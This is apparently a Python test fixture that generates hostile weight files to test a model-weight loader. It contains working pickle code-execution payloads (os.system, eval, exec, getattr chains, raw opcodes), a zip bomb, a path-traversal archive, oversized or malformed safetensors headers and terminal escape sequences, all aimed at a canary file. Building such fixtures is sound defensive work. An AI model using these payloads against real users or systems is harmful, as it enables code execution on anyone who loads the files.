"""Creates files that attack a reader of weights. Each is (name, bytes, whether loading it unsafely has an effect)."""

import io
import json
import operator
import os
import pickle
import struct
import tarfile
import urllib.request
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import torch
from zips import zip_of

KEY = "layers.0.blocks.0.attn.qkv.weight"


class Calls:
    """Pickles as a call of `function`. Instances can be nested and are callable, so that call chains can be pickled."""

    def __init__(self, function: Any, *arguments: Any) -> None:
        self.function, self.arguments = function, arguments

    def __reduce__(self) -> tuple[Any, ...]:
        return self.function, self.arguments

    def __call__(self) -> None:
        raise AssertionError("only pickled")


def hostile_files(canary: Path, url: str) -> Iterator[tuple[str, bytes, bool]]:
    """Yields the files. One with an effect creates the file `canary`; those with `url` in their name request `url`."""
    touch = f"touch {canary}"
    code = f"open({str(canary)!r}, 'w').close()"
    system = Calls(os.system, touch)
    chained = Calls(Calls(getattr, Calls(__import__, "os"), "system"), touch)
    yield "os-system.pth", pickle.dumps({"model": system}, 2), True
    yield "os-system-zip.pth", saved({"model": system}), True
    yield "os-system-legacy.pth", saved({"model": system}, zipped=False), True
    yield "os-system.safetensors", pickle.dumps({"model": system}, 4), True
    yield "eval.pth", saved({"model": Calls(eval, code)}), True
    yield "exec.pth", saved({"model": Calls(exec, code)}), True
    yield "getattr-chain.pth", saved({"model": chained}), True
    yield (
        "attrgetter.pth",
        saved({"model": Calls(Calls(operator.attrgetter("system"), Calls(__import__, "os")), touch)}),
        True,
    )
    yield "as-a-key.pth", saved({Calls(operator.add, KEY, Calls(str, system)): torch.zeros(1)}), True
    yield "after-a-good-part.pth", saved({"model": {KEY: torch.zeros(1)}, "optimizer": system}), True
    yield (
        "rebuild-from-type.pth",
        saved({KEY: Calls(torch._tensor._rebuild_from_type_v2, os.system, str, (touch,), {})}),
        True,
    )
    yield "ask-the-url.pth", saved({"model": Calls(urllib.request.urlopen, url)}), True
    yield (
        "torch-hub-url.pth",
        saved({"model": Calls(torch.hub.load_state_dict_from_url, url, str(canary.parent))}),
        False,
    )
    yield "protocol-0.pth", f"cos\nsystem\n(S'{touch}'\ntR.".encode(), True
    yield "two-pickles.pth", pickle.dumps({KEY: 1}, 2) + pickle.dumps(system, 2), False
    yield "protocol-99.pth", b"\x80\x63" + pickle.dumps(system, 2)[2:], False
    yield "extension-code.pth", b"\x80\x02\x82\x01.", False
    yield "out-of-band.pth", b"\x80\x05\x97\x98.", False
    yield "legacy-tar.pth", tar(pickle.dumps(system, 2)), False
    yield "torchscript.pth", torchscript(), False
    yield "persistent-id.pth", persistent(("module", touch)), False
    yield "persistent-id-legacy.pth", persistent(("module", system, "source", "x"), zipped=False), False
    yield "storage-of-a-terabyte.pth", persistent(("storage", torch.FloatStorage, "0", "cpu", 1 << 40)), False
    yield "bytes-of-an-exabyte.pth", b"\x80\x04\x8e" + struct.pack("<Q", 1 << 60) + b".", False
    yield "number-of-gigabytes.pth", b"\x80\x02\x8b" + struct.pack("<i", (1 << 31) - 1) + b".", False
    yield "a-million-marks.pth", b"\x80\x02" + b"(" * 1_000_000 + b".", False
    yield "one-number-as-a-terabyte.pth", saved({KEY: torch.zeros(1).expand(1 << 20, 1 << 18)}), False
    yield "zip-bomb.pth", deflated(saved({KEY: torch.zeros(16 << 20)})), False
    yield "zip-in-zip.pth", zip_of({"archive/data.pkl": b"", "inner.pth": saved({"model": system})}), False
    yield "zip-that-climbs.pth", zip_of({"../../data.pkl": pickle.dumps(system, 2), "../../version": b"3"}), False
    yield "sparse.pth", saved({KEY: torch.eye(3).to_sparse()}), False
    yield "not-finite.pth", saved({KEY: torch.tensor([1.0, float("nan")])}), False
    yield "names-that-are-none.pth", saved({7: torch.zeros(1)}), False
    yield "name-for-a-terminal.pth", saved({f"{KEY}\x1b[2J": torch.zeros(1)}), False
    yield "global-for-a-terminal.pth", b"\x80\x02cos\x1b[2J\nsystem\x1b[2J\n.", False
    yield "header-of-an-exabyte.safetensors", struct.pack("<Q", 1 << 60) + b"{}", False
    yield "header-longer-than-the-file.safetensors", struct.pack("<Q", 1 << 19) + b"{}", False
    yield "header-of-a-megabyte.safetensors", safetensors({"a" * (2 << 20): entry([1], 4)}, 4), False
    yield "deep-header.safetensors", safetensors(b'{"a":' + b"[" * 200_000), False
    yield "overlapping.safetensors", safetensors({"a": entry([2], 8), "b": entry([2], 8)}, 8), False
    yield "shape-that-overflows.safetensors", safetensors({"a": entry([1 << 33, 1 << 33], 4)}, 4), False
    yield "beyond-its-end.safetensors", safetensors({"a": entry([1 << 40], 1 << 42)}, 4), False
    yield "ten-thousand-tensors.safetensors", safetensors({f"{n}": entry([0], 0) for n in range(12_000)}), False


def saved(content: Any, zipped: bool = True) -> bytes:
    buffer = io.BytesIO()
    torch.save(content, buffer, _use_new_zipfile_serialization=zipped)
    return buffer.getvalue()


def persistent(identity: tuple[Any, ...], zipped: bool = True) -> bytes:
    """Returns a file whose only value is loaded from this persistent id."""
    marker = object()

    class Pickler(pickle.Pickler):
        def persistent_id(self, one: Any) -> Any:
            return identity if one is marker else None

    buffer = io.BytesIO()
    Pickler(buffer, 2).dump({KEY: marker})
    if not zipped:
        legacy = [pickle.dumps(one, 2) for one in (0x1950A86A20F9469CFC6C, 1001, {"little_endian": True})]
        return b"".join(legacy) + buffer.getvalue() + pickle.dumps([], 2)
    return zip_of({"archive/data.pkl": buffer.getvalue(), "archive/version": b"3\n", "archive/data/0": b"\0" * 4})


def deflated(archive: bytes) -> bytes:
    with zipfile.ZipFile(io.BytesIO(archive)) as stored:
        return zip_of({name: stored.read(name) for name in stored.namelist()}, zipfile.ZIP_DEFLATED)


def tar(content: bytes) -> bytes:
    """Returns a file in the format of torch before 0.1.10."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.PAX_FORMAT) as archive:
        for name in ("sys_info", "storages", "tensors", "pickle"):
            member = tarfile.TarInfo(name)
            member.size = len(content)
            archive.addfile(member, io.BytesIO(content))
    return buffer.getvalue()


def torchscript() -> bytes:
    buffer = io.BytesIO()
    torch.jit.save(torch.jit.trace(torch.nn.Linear(1, 1), torch.zeros(1)), buffer)
    return buffer.getvalue()


def safetensors(header: dict[str, Any] | bytes, data_bytes: int = 0) -> bytes:
    text = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack("<Q", len(text)) + text + b"\0" * data_bytes


def entry(shape: list[int], data_bytes: int) -> dict[str, Any]:
    return {"dtype": "F32", "shape": shape, "data_offsets": [0, data_bytes]}


def load_unsafely(content: bytes) -> None:
    """Loads a file with weights_only=False, the default of torch before 2.6."""
    try:
        torch.load(io.BytesIO(content), weights_only=False)
    except Exception:
        # The code of the file runs before loading fails.
        return
